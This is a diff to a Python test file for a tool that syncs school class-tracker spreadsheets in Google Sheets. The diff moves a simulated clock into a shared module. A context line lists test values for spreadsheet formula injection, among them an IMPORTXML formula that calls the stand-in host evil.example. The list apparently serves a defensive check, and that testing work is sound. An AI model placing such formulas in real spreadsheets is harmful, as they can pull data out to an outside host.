@@ -9,19 +9,9 @@ from functions.changes import changed_workbooks
 from sync.google.store import GoogleStore
 from sync.store import Tab, WorkbookRef
 from tests.google_standin import SERVICE_ACCOUNT, TEACHER, StandIn
+from tests.fakes import SimClock
 
 HOSTILE = ['=IMPORTXML("http://evil.example","//a")', "+1", "@SUM(1)"]
-
-
-class SimClock:
-    def __init__(self) -> None:
-        self.now = 1000.0
-
-    def __call__(self) -> float:
-        return self.now
-
-    def sleep(self, seconds: float) -> None:
-        self.now += seconds
 
 
 @pytest.fixture
@@ -42,7 +32,7 @@ def school(google):
     google.create_spreadsheet("Year 4 Ash", {"Pupils": [["UPN"]]}, parents=[classes])
     summary = google.create_spreadsheet("Tracker summary", {"Settings": [["Classes folder", classes]],
                                                             "Summary": [["The head's own notes"]]})
-    clock = SimClock()
+    clock = SimClock(1000.0)
     store = GoogleStore(summary, classes_folder=classes, clock=clock, sleep=clock.sleep)
     return store, oak, clock
 
